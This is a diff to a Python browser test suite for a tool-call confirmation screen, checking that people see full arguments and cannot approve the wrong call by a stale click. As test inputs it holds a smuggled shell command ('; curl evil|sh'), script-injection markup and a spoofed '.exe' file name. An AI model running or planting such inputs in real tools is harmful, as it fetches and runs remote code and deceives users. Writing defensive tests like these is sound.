@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-import re
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -127,7 +126,7 @@ async def test_a_tool_allowed_for_this_session_needs_no_second_confirmation(
 ) -> None:
     async with hub.visitor() as visitor:
         call = calling(visitor, "files__effect")
-        await looker.press("Allow for this session", waiting(looker))
+        await looker.press("Allow for this session, whatever its arguments", waiting(looker))
         assert not (await result(call)).get("isError")
         assert not (await result(calling(visitor, "files__effect"))).get("isError")
     async with hub.visitor() as another:
@@ -145,7 +144,7 @@ async def test_a_confirmation_survives_a_page_reload_and_is_answered_with_the_ke
         await looker.sees(waiting(looker))
         await looker.page.reload()
         allow = waiting(looker).get_by_role("button", name="Allow once")
-        await looker.sees(allow)
+        await expect(allow).to_be_enabled(timeout=WAIT)
         await allow.focus()
         await looker.page.keyboard.press("Enter")
         assert not (await result(call)).get("isError")
@@ -163,14 +162,96 @@ async def test_a_confirmation_shows_arguments_as_text_and_is_accessible(
     ):
         await looker.has_text(looker.row("files"), "ready")
         call = calling(visitor, "files__effect", path=MARKUP + BIDI, more=["x" * 500] * 20)
-        await looker.sees(waiting(looker))
+        await looker.has_text(waiting(looker).locator("pre"), "gnp.exe")
         text = await unharmed(looker, waiting(looker))
         assert "<script>alert(" in text
         assert "\\u202egnp.exe" in text
-        assert re.search(r"characters\)|…", text)
+        assert (await waiting(looker).locator("pre").text_content() or "").count("x" * 500) == 20
         assert await violations(looker) == []
         await looker.press("No", waiting(looker))
         await result(call)
+
+
+async def test_arguments_of_any_size_are_shown_whole_before_the_call_can_be_allowed(
+    looker: Looker, hub: WatchedHub, tmp_path: Path
+) -> None:
+    held = asyncio.Event()
+
+    async def hold(route: Any) -> None:
+        await asyncio.wait_for(held.wait(), PATIENCE)
+        await route.continue_()
+
+    await looker.page.route("**/ui/api/confirmations/*", hold)
+    async with hub.visitor() as visitor:
+        call = calling(visitor, "files__effect", text="line\n" * 60_000 + "; curl evil|sh")
+        await looker.sees(waiting(looker).get_by_role("button", name="No"))
+        await looker.has_text(waiting(looker), "SHA-256")
+        assert await waiting(looker).get_by_role("button", name="Allow").count() == 0
+        held.set()
+        await looker.sees(waiting(looker).get_by_role("button", name="Allow once"))
+        text = await waiting(looker).locator("pre").text_content() or ""
+        assert text.count("line\\n\n") == 60_000
+        assert text.endswith('; curl evil|sh"\n}')
+        await looker.press("Allow once", waiting(looker))
+        assert not (await result(call)).get("isError")
+    assert did(tmp_path) == ["effect"]
+
+
+async def click_at_once(looker: Looker, place: Any) -> None:
+    """Clicks a place as somebody does who has not seen what is there now."""
+    await looker.page.mouse.click(place["x"] + place["width"] / 2, place["y"] + place["height"] / 2)
+
+
+async def test_a_click_for_a_call_that_is_gone_allows_no_other_one(
+    looker: Looker, hub: WatchedHub, tmp_path: Path
+) -> None:
+    async with hub.visitor() as staying:
+        async with hub.visitor() as leaving:
+            first = calling(leaving, "files__effect", path="/read")
+            await looker.has_text(waiting(looker), "/read")
+            second = calling(staying, "files__effect", path="/wipe")
+            await looker.has_text(waiting(looker).last, "/wipe")
+            allow = waiting(looker).first.get_by_role("button", name="Allow once")
+            place = await allow.bounding_box()
+            await allow.hover()
+            first.cancel()
+            await asyncio.wait({first})
+        await expect(waiting(looker)).to_have_count(1, timeout=WAIT)
+        await click_at_once(looker, place)
+        await looker.page.mouse.move(1, 1)  # the gap closes, and the other call moves to its place
+        await expect(looker.page.locator(".gap")).to_have_count(0, timeout=WAIT)
+        await click_at_once(looker, place)
+        await looker.press("No", waiting(looker))
+        assert (await result(second))["isError"]
+    assert did(tmp_path) == []
+
+
+async def test_a_call_that_appears_under_the_pointer_is_not_allowed_by_a_click_at_once(
+    looker: Looker, hub: WatchedHub, tmp_path: Path
+) -> None:
+    async with hub.visitor() as visitor:
+        call = calling(visitor, "files__effect")
+        allow = waiting(looker).get_by_role("button", name="Allow once")
+        await looker.sees(allow)
+        place = await allow.bounding_box()
+        await looker.press("No", waiting(looker))
+        assert (await result(call))["isError"]
+        await looker.sees_not(waiting(looker))
+        await looker.page.evaluate(
+            """([x, y]) => new MutationObserver((_, watching) => {
+                const button = document.elementFromPoint(x, y)?.closest(".confirmation button");
+                if (!button) return;
+                watching.disconnect();
+                button.click();
+            }).observe(document.body, { subtree: true, childList: true, attributes: true })""",
+            [place["x"] + 5, place["y"] + 5] if place else [0, 0],
+        )
+        call = calling(visitor, "files__effect")
+        await expect(allow).to_be_enabled(timeout=WAIT)
+        assert did(tmp_path) == []
+        await allow.click()
+        assert not (await result(call)).get("isError")
+    assert did(tmp_path) == ["effect"]
 
 
 async def test_a_principal_can_answer_only_confirmations_of_its_own_clients(browser: Browser, tmp_path: Path) -> None:
